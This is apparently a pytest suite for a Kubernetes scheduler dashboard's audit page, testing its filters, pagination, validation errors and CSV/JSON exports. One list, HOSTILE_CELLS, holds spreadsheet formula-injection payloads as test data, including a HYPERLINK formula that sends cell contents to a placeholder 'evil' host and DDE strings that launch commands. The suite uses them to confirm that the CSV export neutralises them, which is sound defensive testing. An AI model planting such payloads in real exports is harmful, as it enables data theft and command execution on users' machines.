"""/bindings/: the audit's filters, keyset pages, permalinks, exports, and bad filters as form errors."""

import csv
import io
import json
import re
from datetime import datetime, timedelta, timezone

import pytest

from scheduler.models import Attempt, Binding

pytestmark = pytest.mark.django_db

T0 = datetime(2026, 11, 30, 10, 0, 0, tzinfo=timezone.utc)


def attempt(i, *, ns="default", pod=None, node="n1", result="scheduled", version=0, at=None, bound=False):
    a = Attempt.objects.create(namespace=ns, pod_name=pod or f"web-{i}", number=1, result=result, node_name=node,
                               profile_version=version, started_at=at or T0 + timedelta(seconds=i),
                               message="" if result == "scheduled" else "0/1 nodes are available: 1 Insufficient cpu.")
    if bound:
        Binding.objects.create(namespace=ns, pod_name=a.pod_name, pod_uid=f"uid-{a.pk}", node_name=node, attempt=a,
                               bound_at=a.started_at + timedelta(milliseconds=5))
    return a


def shown(response) -> list[int]:
    """Attempt ids in the table, in order."""
    return [int(x) for x in re.findall(r'<td[^>]*><a href="/attempts/(\d+)/">', response.content.decode())]


def link(response, rel) -> str | None:
    m = re.search(rf'<a href="(\?[^"]*)" rel="{rel}">', response.content.decode())
    return m.group(1).replace("&amp;", "&") if m else None


def test_it_lists_attempts_newest_first_with_links_to_their_attempt_and_pod(admin_client):
    a, b = attempt(1, bound=True), attempt(2, result="unschedulable", node="")
    response = admin_client.get("/bindings/")
    assert response.status_code == 200
    assert shown(response) == [b.pk, a.pk]
    html = response.content.decode()
    assert 'href="/pods/default/web-1/"' in html and 'href="/pods/default/web-2/"' in html
    assert "2026-11-30 10:00:01" in html  # web-1's binding time (bound 5 ms after it started)


@pytest.mark.parametrize("query,expected", [
    ("namespace=kube-system", ["sys"]),
    ("pod=web-2", ["web-2"]),
    ("q=EB-1", ["web-1"]),  # case does not matter: pod names are lowercase
    ("node=n2", ["web-3"]),
    ("result=unschedulable", ["web-2"]),
    ("version=4", ["web-3"]),
    ("since=2026-11-30T10:00:02&until=2026-11-30T10:00:03", ["web-3", "web-2"]),
    ("since=2026-11-30T10:00:03Z", ["sys", "web-3"]),
])
def test_each_filter_narrows_the_rows(admin_client, query, expected):
    attempt(1)
    attempt(2, result="unschedulable", node="")
    attempt(3, node="n2", version=4)
    attempt(4, ns="kube-system", pod="sys")
    response = admin_client.get(f"/bindings/?{query}")
    assert response.status_code == 200
    names = [Attempt.objects.get(pk=pk).pod_name for pk in shown(response)]
    assert names == expected


def test_keyset_pages_cover_every_row_once_in_order_even_with_equal_times_and_rows_arriving(admin_client):
    same = T0 + timedelta(minutes=5)
    ids = [attempt(i).pk for i in range(5)] + [attempt(i, at=same).pk for i in range(5, 8)]
    expected = sorted(ids, key=lambda pk: (Attempt.objects.get(pk=pk).started_at, pk), reverse=True)

    first = admin_client.get("/bindings/?limit=3&node=n1")
    seen, pages, response = shown(first), [shown(first)], first
    attempt(99, at=T0 + timedelta(days=1))  # newer than everything: must not shift the pages that follow
    while (older := link(response, "next")):
        assert "node=n1" in older and "limit=3" in older  # the filter travels with the page link
        response = admin_client.get("/bindings/" + older)
        pages.append(shown(response))
        seen += pages[-1]
    assert seen == expected
    assert [len(p) for p in pages] == [3, 3, 2]
    # And back: the newer link of the last page leads to the page before it.
    assert shown(admin_client.get("/bindings/" + link(response, "prev"))) == pages[1]


@pytest.mark.parametrize("query,message", [
    ("version=-1", "Ensure this value is greater than or equal to 0."),
    ("version=abc", "Enter a whole number."),
    ("result=bogus", "Select a valid choice. bogus is not one of the available choices."),
    ("since=yesterday", "Enter a valid date/time."),
    ("since=2026-11-30T10:00&until=2026-11-29T10:00", "Must not be before “From”."),
    ("limit=0", "Ensure this value is greater than or equal to 1."),
    ("limit=100000", "Ensure this value is less than or equal to 500."),
    ("after=not-a-cursor", "This page link is damaged; start again from the first page."),
    ("after=" + "x" * 40, "This page link is damaged; start again from the first page."),
    ("pod=" + "p" * 300, "Ensure this value has at most 253 characters (it has 300)."),
])
def test_a_bad_filter_value_is_a_form_error_not_a_server_error(admin_client, query, message):
    response = admin_client.get(f"/bindings/?{query}")
    assert response.status_code == 400
    assert message in response.content.decode().replace("&#x27;", "'").replace("&quot;", '"')
    assert 'aria-invalid="true"' in response.content.decode() or "after" in query


def test_the_csv_export_streams_every_filtered_row_not_just_one_page(admin_client):
    for i in range(7):
        attempt(i, bound=i % 2 == 0, node="n1" if i < 6 else "n2")
    response = admin_client.get("/bindings/?node=n1&limit=2&format=csv")
    assert response.status_code == 200 and response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert re.fullmatch(r'attachment; filename="schedboard-audit-\d{8}T\d{6}Z\.csv"', response["Content-Disposition"])
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert [r["pod"] for r in rows] == [f"web-{i}" for i in range(5, -1, -1)]
    assert rows[-1]["bound_at"] == "2026-11-30T10:00:00.005000+00:00" and rows[-2]["bound_at"] == ""
    assert rows[0]["url"] == f"http://testserver/attempts/{Attempt.objects.get(pod_name='web-5').pk}/"


HOSTILE_CELLS = ['=HYPERLINK("http://evil/?"&A1,"x")', "+2+3+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
                 "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", HOSTILE_CELLS)
def test_the_csv_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(admin_client, text):
    a = attempt(1, result="unschedulable")
    Attempt.objects.filter(pk=a.pk).update(message=text)
    response = admin_client.get("/bindings/?format=csv")
    [row] = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))
    # As OWASP says: a leading single quote, and the text otherwise as it was.
    assert row["message"] == "'" + text
    assert row["pod"] == "web-1" and row["attempt"] == "1"  # plain text and numbers are left alone
    data = json.loads(b"".join(admin_client.get("/bindings/?format=json").streaming_content))
    assert data[0]["message"] == text  # the JSON export carries the data unchanged


def test_a_negative_number_stays_a_number_in_the_csv_export(admin_client):
    a = attempt(1)
    Attempt.objects.filter(pk=a.pk).update(number=-3)
    [row] = list(csv.DictReader(io.StringIO(b"".join(admin_client.get("/bindings/?format=csv").streaming_content).decode())))
    assert row["attempt"] == "-3"


def test_the_json_export_is_one_array_of_the_filtered_rows(admin_client, monkeypatch):
    from dashboard import audit

    monkeypatch.setattr(audit, "EXPORT_CHUNK", 2)  # several keyset chunks
    for i in range(5):
        attempt(i, result="unschedulable" if i != 2 else "scheduled", node="")
    response = admin_client.get("/bindings/?result=unschedulable&format=json")
    data = json.loads(b"".join(response.streaming_content))
    assert [d["pod"] for d in data] == ["web-4", "web-3", "web-1", "web-0"]
    assert data[0]["message"] == "0/1 nodes are available: 1 Insufficient cpu." and data[0]["result"] == "unschedulable"


def test_an_export_with_a_bad_filter_or_format_is_a_400_with_the_reason(admin_client):
    bad = admin_client.get("/bindings/?version=x&format=csv")
    assert bad.status_code == 400 and b"version: Enter a whole number." in bad.content
    unknown = admin_client.get("/bindings/?format=xml")
    assert unknown.status_code == 400 and b"Unknown export format" in unknown.content


def test_the_page_offers_both_exports_of_the_current_filter(admin_client):
    attempt(1)
    html = admin_client.get("/bindings/?namespace=default&result=scheduled").content.decode().replace("&amp;", "&")
    assert 'href="?namespace=default&result=scheduled&format=csv"' in html
    assert 'href="?namespace=default&result=scheduled&format=json"' in html


def test_listing_pages_do_not_read_the_decision_detail(admin_client):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    attempt(1, result="unschedulable")
    for path in ("/bindings/", "/bindings/?format=csv", "/pods/default/web-1/"):
        with CaptureQueriesContext(connection) as queries:
            response = admin_client.get(path)
            if response.streaming:
                b"".join(response.streaming_content)
        selects = [q["sql"] for q in queries if "scheduler_attempt" in q["sql"] and q["sql"].startswith("SELECT")]
        assert selects, path
        for sql in selects:
            assert '"scheduler_attempt"."trace"' not in sql and '"scheduler_attempt"."candidates"' not in sql, path
